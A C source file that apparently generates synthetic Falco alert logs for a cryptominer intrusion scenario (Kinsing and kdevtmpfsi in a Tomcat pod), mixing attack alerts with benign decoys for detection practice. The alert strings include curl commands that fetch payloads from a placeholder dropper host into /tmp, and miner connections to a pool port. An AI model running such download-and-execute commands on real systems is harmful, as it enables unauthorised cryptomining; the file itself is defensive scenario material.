/* SPDX-License-Identifier: Apache-2.0 */
/*
 * falco.c - Falco JSON alerts of the tomcat-miner story (formats.md 8.1: one object per line,
 * `time` with 9 fractional digits, `output` prefixed with the time of day, typed
 * `output_fields` with `evt.time` in ns), as file_output of the Falco DaemonSet on the three
 * nodes, concatenated. Attack: the remote file copy, the dropped binaries executed, the
 * miner's pool connection. Benign: the same copy-tool rule firing on a cache-warmer job, and
 * the hourly report job contacting the API server.
 */
#include "tm.h"

#include <stdio.h>
#include <string.h>

#define FALCO_FILE "falco/falco-events.json"
#define CNAME "k8s_" CTR "_" POD "_" NSP "_" POD_UID "_0"
#define CINFO "container_id=" CID12 " container_image=registry.acme-shop.example/shop/tomcat-web" \
    " container_image_tag=2.14.0 container_name=" CNAME " k8s_ns=" NSP " k8s_pod_name=" POD
#define CFIELDS "\"container.id\":\"" CID12 "\",\"container.image.repository\":" \
    "\"registry.acme-shop.example/shop/tomcat-web\",\"container.image.tag\":\"2.14.0\"," \
    "\"container.name\":\"" CNAME "\",\"k8s.ns.name\":\"" NSP "\",\"k8s.pod.name\":\"" POD "\""

enum { TAG_COPY = 1, TAG_DROP_KINSING, TAG_DROP_MINER, TAG_POOL };

static const char *const prio_name[] = { "Critical", "Warning", "Notice" };

static int member_cmp(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The members of a JSON object body ("k":v,"k":v...) sorted by key, as Falco prints them
 * (its output fields live in an ordered map). Commas inside strings are not separators. */
static void sorted_members(struct sb *out, const char *body)
{
    char *copy = xstrdup(body), *p, *m[64];
    int n = 0, in_str = 0, i;

    m[n++] = copy;
    for (p = copy; *p; p++) {
        if (in_str && *p == '\\' && p[1]) {
            p++;
        } else if (*p == '"') {
            in_str = !in_str;
        } else if (!in_str && *p == ',' && n < 64) {
            *p = '\0';
            m[n++] = p + 1;
        }
    }
    qsort(m, (size_t)n, sizeof(m[0]), member_cmp);
    for (i = 0; i < n; i++) {
        if (i)
            sb_add(out, ",", 1);
        sb_s(out, m[i]);
    }
    free(copy);
}

/* msg is the rule output after the priority; fields the output_fields members, no braces. */
static void alert(struct lines *ls, int64_t t, int tag, const char *host, const char *rule,
                  int prio, const char *tags, const char *msg, const char *fields)
{
    struct sb b = { 0 }, out = { 0 };
    char iso[TF_LEN];

    tf_iso_ns(iso, t);
    /* The text prefix is the time of day without a zone: HH:MM:SS.nnnnnnnnn */
    sb_f(&out, "%.18s: %s %s", iso + 11, prio_name[prio], msg);
    sb_f(&b, "{\"hostname\":\"%s\",\"output\":", host);
    json_str_go(&b, out.p);
    sb_reset(&out);
    sb_f(&out, "%s,\"evt.time\":%lld", fields, (long long)t);
    sb_s(&b, ",\"output_fields\":{");
    sorted_members(&b, out.p);
    sb_f(&b, "},\"priority\":\"%s\",\"rule\":\"%s\",\"source\":\"syscall\",\"tags\":[%s],"
         "\"time\":\"%s\"}", prio_name[prio], rule, tags, iso);
    lines_take(ls, t, tag, &b);
    free(out.p);
}

#define R_COPY "Launch Ingress Remote File Copy Tools in Container"
#define TAGS_COPY "\"T1105\",\"container\",\"maturity_incubating\",\"mitre_command_and_control\"," \
    "\"network\",\"process\""
#define R_DROP "Drop and execute new binary in container"
#define TAGS_DROP "\"PCI_DSS_11.5.1\",\"TA0003\",\"container\",\"maturity_stable\"," \
    "\"mitre_persistence\",\"process\""
#define R_POOL "Detect outbound connections to common miner pool ports"
#define TAGS_POOL "\"T1496\",\"container\",\"host\",\"maturity_sandbox\",\"mitre_impact\"," \
    "\"network\""
#define R_K8S "Contact K8S API Server From Container"
#define TAGS_K8S "\"T1565\",\"container\",\"k8s\",\"maturity_stable\",\"mitre_discovery\"," \
    "\"network\""

static void copy_tool(struct lines *ls, int64_t t, int tag, const char *host, int pid, int ppid,
                      const char *user, int uid, const char *exe, const char *cmd,
                      const char *pname, const char *cinfo, const char *cfields)
{
    char msg[2048], fields[2048];
    const char *name = strrchr(exe, '/') + 1;

    snprintf(msg, sizeof(msg), "Detected ingress remote file copy tool launched in container | "
             "evt_type=execve user=%s user_uid=%d user_loginuid=-1 process=%s proc_exepath=%s "
             "parent=%s command=%s terminal=0 exe_flags=EXE_WRITABLE %s", user, uid, name, exe,
             pname, cmd, cinfo);
    snprintf(fields, sizeof(fields), "%s,\"evt.arg.flags\":\"EXE_WRITABLE\",\"evt.type\":"
             "\"execve\",\"proc.cmdline\":\"%s\",\"proc.exepath\":\"%s\",\"proc.name\":\"%s\","
             "\"proc.pid\":%d,\"proc.pname\":\"%s\",\"proc.ppid\":%d,\"proc.tty\":0,"
             "\"user.loginuid\":-1,\"user.name\":\"%s\",\"user.uid\":%d", cfields, cmd, exe, name,
             pid, pname, ppid, user, uid);
    alert(ls, t, tag, host, R_COPY, 2, TAGS_COPY, msg, fields);
}

static void drop_exec(struct lines *ls, int64_t t, int tag, int pid, int ppid, const char *exe,
                      const char *cmd, const char *pname)
{
    char msg[2048], fields[2048], ct[40];
    const char *name = strrchr(exe, '/') + 1;
    int64_t start = day0 - T_POD_START_DAYS_AGO * 86400 * NS + (int64_t)(14 * 3600 + 7) * NS;

    snprintf(ct, sizeof(ct), "%lld", (long long)(t - 3 * NS));
    snprintf(msg, sizeof(msg), "Executing binary not part of base image | proc_exe=%s "
             "proc_sname=sh gparent=java proc_exe_ino_ctime=%s proc_exe_ino_mtime=%s "
             "proc_exe_ino_ctime_duration_proc_start=3021455712 proc_cwd=/usr/local/tomcat/ "
             "container_start_ts=%lld evt_type=execve user=root user_uid=0 user_loginuid=-1 "
             "process=%s proc_exepath=%s parent=%s command=%s terminal=0 "
             "exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER " CINFO, exe, ct, ct, (long long)start, name,
             exe, pname, cmd);
    snprintf(fields, sizeof(fields), CFIELDS ",\"container.start_ts\":%lld,\"evt.arg.flags\":"
             "\"EXE_WRITABLE|EXE_UPPER_LAYER\",\"evt.type\":\"execve\",\"proc.aname[2]\":"
             "\"java\",\"proc.cmdline\":\"%s\",\"proc.cwd\":\"/usr/local/tomcat/\","
             "\"proc.exe\":\"%s\",\"proc.exe_ino.ctime\":%s,\"proc.exe_ino.mtime\":%s,"
             "\"proc.exepath\":\"%s\",\"proc.name\":\"%s\",\"proc.pid\":%d,\"proc.pname\":\"%s\","
             "\"proc.ppid\":%d,\"proc.sname\":\"sh\",\"proc.tty\":0,\"user.loginuid\":-1,"
             "\"user.name\":\"root\",\"user.uid\":0", (long long)start, cmd, exe, ct, ct, exe,
             name, pid, pname, ppid);
    alert(ls, t, tag, NODE, R_DROP, 0, TAGS_DROP, msg, fields);
}

static void gen_attack(struct lines *ls)
{
    char msg[2048], fields[2048];
    int i;

    copy_tool(ls, at(T_CMD) + 131204877LL, TAG_COPY, NODE, 31843, 31842, "root", 0,
              "/usr/bin/curl", "curl -fsSL http://" DROPPER "/zzz -o /tmp/zzz", "sh",
              CINFO, CFIELDS);
    copy_tool(ls, at(T_CMD + 3) + 402118733LL, 0, NODE, 31851, 31850, "root", 0,
              "/usr/bin/curl", "curl -fsSL http://" DROPPER "/kdevtmpfsi -o /tmp/kdevtmpfsi",
              "sh", CINFO, CFIELDS);
    copy_tool(ls, at(T_CMD + 5) + 77403196LL, 0, NODE, 31859, 31850, "root", 0,
              "/usr/bin/curl", "curl -fsSL http://" DROPPER "/kinsing -o /tmp/kinsing", "sh",
              CINFO, CFIELDS);
    drop_exec(ls, at(T_KINSING) + 611930442LL, TAG_DROP_KINSING, 31866, 31850, "/tmp/kinsing",
              "kinsing", "sh");
    drop_exec(ls, at(T_MINER) + 208554103LL, TAG_DROP_MINER, 31874, 31866, "/tmp/kdevtmpfsi",
              "kdevtmpfsi", "kinsing");
    for (i = 0; i < 3; i++) {
        int64_t t = at(T_POOL + i * 1200) + 12773091LL + i * 3001;
        int lport = 41822 + i * 2;
        snprintf(msg, sizeof(msg), "Outbound connection to IP/Port flagged by "
                 "https://cryptoioc.ch | ip=" POOL_IP " port=3333 connection=" POD_IP ":%d->"
                 POOL_IP ":3333 lport=%d rport=3333 fd_type=ipv4 fd_proto=tcp evt_type=connect "
                 "user=root user_uid=0 user_loginuid=-1 process=kdevtmpfsi "
                 "proc_exepath=/tmp/kdevtmpfsi parent=kinsing command=kdevtmpfsi terminal=0 "
                 CINFO, lport, lport);
        snprintf(fields, sizeof(fields), CFIELDS ",\"evt.type\":\"connect\",\"fd.l4proto\":"
                 "\"tcp\",\"fd.lport\":%d,\"fd.name\":\"" POD_IP ":%d->" POOL_IP ":3333\","
                 "\"fd.rip\":\"" POOL_IP "\",\"fd.rport\":3333,\"fd.type\":\"ipv4\","
                 "\"proc.cmdline\":\"kdevtmpfsi\",\"proc.exepath\":\"/tmp/kdevtmpfsi\","
                 "\"proc.name\":\"kdevtmpfsi\",\"proc.pid\":31874,\"proc.pname\":\"kinsing\","
                 "\"proc.tty\":0,\"user.loginuid\":-1,\"user.name\":\"root\",\"user.uid\":0",
                 lport, lport);
        alert(ls, t, i == 0 ? TAG_POOL : 0, NODE, R_POOL, 0, TAGS_POOL, msg, fields);
    }
}

static void gen_benign(struct lines *ls)
{
    static const char *const hosts[2] = { NODE_A, NODE_B };
    char msg[2048], fields[2048], cinfo[512], cfields[1024], pod[80], sfx[8];
    int s, day;

    /* The hourly report job reads pods through the API server (it is allowed to). */
    for (s = 0; s < 86400; s += 3600) {
        int64_t t = at(s) + rng_range(3000, 9000) * 1000000LL;
        const char *host = hosts[rng_n(2)];
        char cid[13];
        rng_hex(cid, 12);
        rng_hex(sfx, 5);
        snprintf(pod, sizeof(pod), "report-cron-%d-%s", 29000000 + s / 60, sfx);
        snprintf(cinfo, sizeof(cinfo), "container_id=%s container_image=registry.acme-shop."
                 "example/shop/report-job container_image_tag=1.4.2 container_name=k8s_report_"
                 "%s k8s_ns=" NSP " k8s_pod_name=%s", cid, pod, pod);
        snprintf(cfields, sizeof(cfields), "\"container.id\":\"%s\",\"container.image."
                 "repository\":\"registry.acme-shop.example/shop/report-job\",\"container."
                 "image.tag\":\"1.4.2\",\"container.name\":\"k8s_report_%s\",\"k8s.ns.name\":"
                 "\"" NSP "\",\"k8s.pod.name\":\"%s\"", cid, pod, pod);
        unsigned a = 20 + (unsigned)rng_n(200);
        unsigned cport = 40000 + (unsigned)rng_n(20000);
        snprintf(msg, sizeof(msg), "Unexpected connection to K8s API Server from container | "
                 "connection=10.42.%d.%u:%u->172.20.0.1:443 lport=%u rport=443 fd_type=ipv4 "
                 "fd_proto=tcp evt_type=connect user=app user_uid=1000 user_loginuid=-1 "
                 "process=python3 proc_exepath=/usr/local/bin/python3.12 parent=sh "
                 "command=python3 /app/report.py --hourly terminal=0 %s",
                 host == hosts[0] ? 1 : 2, a, cport, cport, cinfo);
        snprintf(fields, sizeof(fields), "%s,\"evt.type\":\"connect\",\"fd.l4proto\":\"tcp\","
                 "\"fd.rip\":\"172.20.0.1\",\"fd.rport\":443,\"fd.type\":\"ipv4\","
                 "\"proc.cmdline\":\"python3 /app/report.py --hourly\",\"proc.exepath\":"
                 "\"/usr/local/bin/python3.12\",\"proc.name\":\"python3\",\"proc.pname\":\"sh\","
                 "\"proc.tty\":0,\"user.loginuid\":-1,\"user.name\":\"app\",\"user.uid\":1000",
                 cfields);
        alert(ls, t, 0, host, R_K8S, 2, TAGS_K8S, msg, fields);
    }
    /* The cache warmer curls the shop every morning and after each cart rollout. */
    for (day = 0; day < 3 * scale; day++) {
        int64_t t = at(day % 3 == 0 ? 6 * 3600 : day % 3 == 1 ? 9 * 3600 + 42 * 60
                       : 16 * 3600 + 7 * 60) + rng_range(0, 59) * NS;
        int pid;
        t += rng_range(0, 999999999);
        pid = 10 + (int)rng_n(30);
        char cid[13];
        rng_hex(cid, 12);
        rng_hex(sfx, 5);
        snprintf(pod, sizeof(pod), "cache-warmer-%s", sfx);
        snprintf(cinfo, sizeof(cinfo), "container_id=%s container_image=curlimages/curl "
                 "container_image_tag=8.10.1 container_name=k8s_warm_%s k8s_ns=" NSP
                 " k8s_pod_name=%s", cid, pod, pod);
        snprintf(cfields, sizeof(cfields), "\"container.id\":\"%s\",\"container.image."
                 "repository\":\"curlimages/curl\",\"container.image.tag\":\"8.10.1\","
                 "\"container.name\":\"k8s_warm_%s\",\"k8s.ns.name\":\"" NSP "\","
                 "\"k8s.pod.name\":\"%s\"", cid, pod, pod);
        copy_tool(ls, t, 0, hosts[day % 2], pid, 1, "curl_user", 100,
                  "/usr/bin/curl", "curl -s -o /dev/null http://tomcat-web.shop.svc:8080/products",
                  "sh", cinfo, cfields);
    }
}

void gen_falco(void)
{
    struct lines ls = { 0 };
    struct sb b = { 0 };

    gen_attack(&ls);
    gen_benign(&ls);
    lines_render(&ls, &b);
    out_file(FALCO_FILE, b.p, b.n);
    note(at(T_CMD), FALCO_FILE, lines_tag(&ls, TAG_COPY),
         "Falco: " R_COPY ": curl of /tmp/zzz in " POD " (parent sh, grandparent java)");
    note(at(T_KINSING), FALCO_FILE, lines_tag(&ls, TAG_DROP_KINSING),
         "Falco: " R_DROP ": /tmp/kinsing");
    note(at(T_MINER), FALCO_FILE, lines_tag(&ls, TAG_DROP_MINER),
         "Falco: " R_DROP ": /tmp/kdevtmpfsi (the miner)");
    note(at(T_POOL), FALCO_FILE, lines_tag(&ls, TAG_POOL),
         "Falco: " R_POOL ": kdevtmpfsi -> " POOL_IP ":3333");
    lines_free(&ls);
    free(b.p);
}
